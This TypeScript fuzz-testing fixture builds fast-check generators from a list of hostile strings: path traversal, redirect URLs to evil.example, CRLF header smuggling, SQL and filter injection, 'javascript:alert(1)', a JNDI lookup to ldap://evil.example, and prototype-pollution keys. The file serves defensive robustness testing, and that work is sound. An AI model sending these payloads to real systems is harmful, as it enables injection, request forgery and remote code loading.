import fc from 'fast-check';

/** The same values in every run; a failure is run again by its seed. */
export const SEED = Number(process.env.HOSTILE_SEED ?? 20_261_121);

/** Texts that have meant something else to some program: to a path, a query, a header, a language, a prototype. */
export const nastyTexts = [
	...[
		'',
		' ',
		'.',
		'..',
		'../..',
		'/',
		'//evil.example',
		'\\',
		'%',
		'%2e%2e',
		'%2F',
		'%00',
		'?',
		'#',
		';',
		'&a=b',
	],
	...['../Contacts', '..%2f..', '1/2', '1?x=1', '1#x', '1;x=1', '1&ids=2', '1,2', '1%2C2', './1', '1/..'],
	...[
		'https://evil.example/',
		'//127.0.0.1:1/',
		'http://127.0.0.1@evil.example/',
		'@evil.example',
		'javascript:alert(1)',
	],
	...['a\r\nX-Evil: 1', 'a\nX-Evil: 1', 'a\rb', 'X-Evil: 1', '\r\n\r\nGET / HTTP/1.1\r\nHost: evil.example'],
	...[
		"'",
		'"',
		"''",
		`' or id is not null or '`,
		`x' or 'x'='x`,
		'\\',
		"\\'",
		`x\\' or id is not null`,
		'`',
		'--',
		'/*',
	],
	...[
		'(',
		')',
		',',
		':',
		'(a:equals:b)',
		'b)or(Last_Name:starts_with:',
		'a\\',
		'x:equals:y',
		'))((',
		'%',
		'_',
		'*',
	],
	...[
		'${jndi:ldap://evil.example}',
		'{{ $json }}',
		'={{ 1 + 1 }}',
		'=1',
		'${notempty}',
		'<script>',
		'\u0000',
		'a\u0000b',
	],
	...[
		'__proto__',
		'constructor',
		'prototype',
		'toString',
		'hasOwnProperty',
		'valueOf',
		'length',
		'then',
		'toJSON',
	],
	...[
		'undefined',
		'null',
		'NaN',
		'true',
		'-1',
		'0',
		'1e400',
		'9007199254740993',
		'4900000000001000001',
		'١٢٣',
		'１２３',
	],
	...[
		'\ud800',
		'\udc00x',
		'\u202eabc',
		'a\u0301\u0327'.repeat(9),
		'\ufeff',
		'\u2028',
		'\u{1f469}\u200d\u{1f4bb}',
		'ﬁ',
		'ß',
	],
	...[
		'2026-02-30',
		'2026-13-01T00:00:00Z',
		'99999-01-01',
		'[',
		'{',
		'[1,',
		'{"a":',
		'[null]',
		'{"__proto__":{"x":1}}',
	],
];

/** Any text: of the list, of Unicode with halves of pairs, or a long one. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
	{ weight: 5, arbitrary: fc.constantFrom(...nastyTexts) },
	{
		weight: 2,
		arbitrary: fc
			.tuple(fc.constantFrom(...nastyTexts), fc.constantFrom(...nastyTexts))
			.map((two) => two.join('')),
	},
	{ weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
	{
		weight: 1,
		arbitrary: fc.string({
			unit: fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)),
			maxLength: 12,
		}),
	},
	{
		weight: 1,
		arbitrary: fc.constantFrom('x', '\u{1f469}', '(', "'", '../').map((text) => text.repeat(3_000)),
	},
);

const hostileKey = fc.oneof(
	fc.constantFrom(
		'__proto__',
		'constructor',
		'toString',
		'valueOf',
		'toJSON',
		'id',
		'name',
		'value',
		'mode',
		'length',
		'Last_Name',
		'subject',
		'cf',
	),
	fc.string({ maxLength: 8 }),
);

/** Anything JSON can say, with keys that prototypes have. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
	{ weight: 4, arbitrary: hostileText },
	{
		weight: 1,
		arbitrary: fc.constantFrom(null, true, false, 0, -0, -1, 1.5, 1e21, 5e-324, 9007199254740993, 4.9e18),
	},
	{ weight: 1, arbitrary: fc.double({ noNaN: true, noDefaultInfinity: true }) },
	{
		weight: 2,
		arbitrary: fc.letrec((tie) => ({
			tree: fc.oneof(
				{ maxDepth: 3 },
				hostileText,
				fc.constantFrom(null, 7, true),
				tie('list'),
				tie('object'),
			),
			list: fc.array(tie('tree'), { maxLength: 4 }),
			object: fc.dictionary(hostileKey, tie('tree'), { maxKeys: 4, noNullPrototype: true }),
		})).object,
	},
	{ weight: 1, arbitrary: fc.array(hostileText, { maxLength: 4 }) },
	{
		weight: 1,
		arbitrary: fc.constantFrom(
			{ toString: 'x' },
			{ toString: null, valueOf: null },
			[{ toString: 1 }],
			[[[[[]]]]],
			{},
		),
	},
);
